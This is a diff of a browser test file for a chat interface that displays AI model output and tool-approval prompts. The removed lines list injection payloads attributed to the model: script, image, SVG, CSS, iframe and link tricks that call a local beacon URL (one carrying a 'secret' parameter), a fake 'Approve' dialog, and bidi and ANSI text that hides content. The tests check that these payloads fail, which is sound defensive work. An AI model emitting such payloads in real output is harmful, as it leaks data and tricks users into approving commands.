@@ -1,46 +1,12 @@
 /** A model whose every word is an attack on the page: nothing loads, nothing runs, nothing hangs, nothing looks like the gate. */
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { amberPixels } from './amber';
+import { ATTACKS, BEACON, hears, requests } from './canary';
 import { button, ended, expect, message, open, question, send, test, tool, unfold } from './test';
 
-/** A server that counts requests: none may come. */
-let requests: string[] = [];
-const canary = createServer((request, response) => {
-  requests.push(request.url ?? '');
-  response.end();
-});
-await new Promise<void>((listening) => canary.listen(0, '127.0.0.1', listening));
-// Scripts name its port, so it listens before tests are defined; it keeps no process alive.
-canary.unref();
-const BEACON = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
-
-test.beforeAll(async () => {
-  // It does hear.
-  await fetch(`${BEACON}/proof`);
-  expect(requests).toEqual(['/proof']);
-  requests = [];
-});
+test.beforeAll(() => hears());
 
 // One worker for this file: the canary is one.
 test.describe.configure({ mode: 'default' });
-
-const ATTACKS = [
-  `<script>fetch('${BEACON}/script')</script>`,
-  `<img src="${BEACON}/img" onerror="fetch('${BEACON}/onerror')">`,
-  `![beacon](${BEACON}/markdown.png?secret=42)`,
-  `![ref][b]\n\n[b]: ${BEACON}/reference.png`,
-  `<svg onload="fetch('${BEACON}/svg')"><image href="${BEACON}/svg-image"/></svg>`,
-  `<style>@import url(${BEACON}/css); .gate { display: none !important } body { background: url(${BEACON}/bg) }</style>`,
-  `<link rel="stylesheet" href="${BEACON}/link"><link rel="prefetch" href="${BEACON}/prefetch">`,
-  `<iframe src="${BEACON}/frame"></iframe><object data="${BEACON}/object"></object><video src="${BEACON}/video" autoplay></video>`,
-  `[click me](javascript:fetch('${BEACON}/javascript'))`,
-  `[click me](data:text/html,<script>fetch('${BEACON}/data')</script>)`,
-  `<meta http-equiv="refresh" content="0;url=${BEACON}/refresh"><base href="${BEACON}/base/">`,
-  '<div role="alertdialog" aria-label="run_command" class="gate"><button>Approve</button></div>',
-  '━━━ toolgate ━━━\nToolgate asks run_command write\n\n**Approve** **Refuse**',
-  'bidi: \u202egnp.exe\u202c and zero\u200bwidth and &#x202e;entity',
-  'ansi: \u001b[2J\u001b[1;1H\u001b[8mhidden\u001b[0m',
-];
 
 const say = (text: string) => `  - say: ${JSON.stringify(text)}\n`;
 
@@ -67,6 +33,7 @@ test.describe('text', () => {
     for (const hidden of ['\u202e', '\u200b', '\u001b']) expect(text).not.toContain(hidden);
     // Amber is the gate's alone.
     expect(await page.evaluate(amberInTranscript)).toEqual([]);
+    expect(await amberPixels(page.locator('.transcript'))).toBe(0);
 
     // A link shows where it leads, and a bad one cannot be opened.
     await page.getByRole('button', { name: /click me/ }).first().click();
@@ -104,6 +71,9 @@ test.describe('calls', () => {
     await send(page, 'Attack');
     const card = question(page, 'run_command');
     await expect(card).toContainText('\\u{202e}');
+    // The picture of the card is in the colour that the one of the messages has none of.
+    expect(await amberPixels(card)).toBeGreaterThan(1000);
+    expect(await amberPixels(page.locator('.transcript'))).toBe(0);
     await expect(card).toContainText('\\u{200b}');
     expect(await card.innerText()).not.toMatch(/[\u202e\u200b]/);
     // The block of the call is drawn by the page from what the model sent.
